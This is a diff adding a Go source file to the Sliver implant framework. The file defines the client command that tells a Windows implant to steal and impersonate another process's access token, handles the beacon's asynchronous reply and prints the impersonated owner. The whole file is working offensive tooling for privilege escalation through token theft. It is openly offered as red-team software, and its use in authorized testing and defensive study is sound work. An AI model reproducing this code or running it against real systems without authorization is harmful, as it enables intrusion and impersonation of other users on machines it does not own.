@@ -0,0 +1,90 @@
+package privilege
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"context"
+
+	"github.com/bishopfox/sliver/client/command/help"
+	"github.com/bishopfox/sliver/client/console"
+	consts "github.com/bishopfox/sliver/client/constants"
+	"github.com/bishopfox/sliver/protobuf/clientpb"
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+	"github.com/desertbit/grumble"
+	"google.golang.org/protobuf/proto"
+)
+
+func init() {
+	help.RegisterOpsec(consts.StealTokenStr, &help.OpsecInfo{
+		Risk: help.OpsecMedium,
+		APIs: []string{"OpenProcess and OpenProcessToken on the target process", "DuplicateTokenEx", "ImpersonateLoggedOnUser"},
+	})
+}
+
+// StealTokenCmd - Windows only, impersonate the token of a process
+func StealTokenCmd(ctx *grumble.Context, con *console.SliverConsoleClient) {
+	session, beacon := con.ActiveTarget.GetInteractive()
+	if session == nil && beacon == nil {
+		return
+	}
+
+	pid := ctx.Args.Uint("pid")
+	if pid == 0 {
+		con.PrintErrorf("You must provide a pid\n")
+		return
+	}
+	stealToken, err := con.Rpc.StealToken(context.Background(), &sliverpb.StealTokenReq{
+		Request: con.ActiveTarget.Request(ctx),
+		Pid:     uint32(pid),
+	})
+	if err != nil {
+		con.PrintErrorf("%s\n", err)
+		return
+	}
+
+	targetID := targetID(session, beacon)
+	if stealToken.Response != nil && stealToken.Response.Async {
+		con.AddBeaconCallback(stealToken.Response.TaskID, func(task *clientpb.BeaconTask) {
+			err = proto.Unmarshal(task.Response, stealToken)
+			if err != nil {
+				con.PrintErrorf("Failed to decode response %s\n", err)
+				return
+			}
+			if stealToken.Response.GetErr() == "" {
+				updateImpersonating(targetID, stealToken.Owner, con)
+			}
+			PrintStealToken(stealToken, con)
+		})
+		con.PrintAsyncResponse(stealToken.Response)
+	} else {
+		if stealToken.Response.GetErr() == "" {
+			updateImpersonating(targetID, stealToken.Owner, con)
+		}
+		PrintStealToken(stealToken, con)
+	}
+}
+
+// PrintStealToken - Print the owner of the stolen token
+func PrintStealToken(stealToken *sliverpb.StealToken, con *console.SliverConsoleClient) {
+	if stealToken.Response != nil && stealToken.Response.GetErr() != "" {
+		con.PrintErrorf("%s\n", stealToken.Response.GetErr())
+		return
+	}
+	con.PrintInfof("Successfully impersonated %s. Use `rev2self` to revert to your previous token.\n", stealToken.Owner)
+}